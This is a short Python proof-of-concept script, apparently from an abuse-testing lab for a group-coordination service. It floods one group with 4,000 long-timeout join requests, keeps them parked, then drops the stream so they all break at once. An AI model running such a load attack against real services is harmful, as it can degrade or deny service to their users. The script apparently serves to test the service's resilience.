"""A stream with 4,000 parked joins of one group breaks: each is un-parked without a look at the others."""

import asyncio

from abuse.caller import connection, join
from abuse.lab import Target, stage
from abuse.session import Session
from muster_protos.muster.v1 import common_pb2

MEMBERS = 4_000
AT_A_TIME = 500
LONG_MS = 1_800_000


async def attack(target: Target) -> str:
    (group,) = await target.groups(1, "parked")
    times = {"session_timeout_ms": LONG_MS, "rebalance_timeout_ms": LONG_MS}
    async with connection(target.owner) as channel, Session(channel, keep=True) as session:
        for first in range(0, MEMBERS, AT_A_TIME):
            numbers = range(first, first + AT_A_TIME)
            session.call("join_group", [join(group, request_id=str(number), **times) for number in numbers])
            await session.until_answered(first + AT_A_TIME)
            told = [reply.join_group for reply in session.answers.values()]
            ids = [
                answer.member_id
                for answer in told
                if answer.error_code == common_pb2.ERROR_CODE_MEMBER_ID_REQUIRED
            ]
            session.answers.clear()
            session.call("join_group", [join(group, member_id=member_id, **times) for member_id in ids])
        await asyncio.sleep(2)
        parked = session.asked - session.answered
    await asyncio.sleep(2)
    return f"{parked} parked joins broke off at once"


if __name__ == "__main__":
    stage(attack)
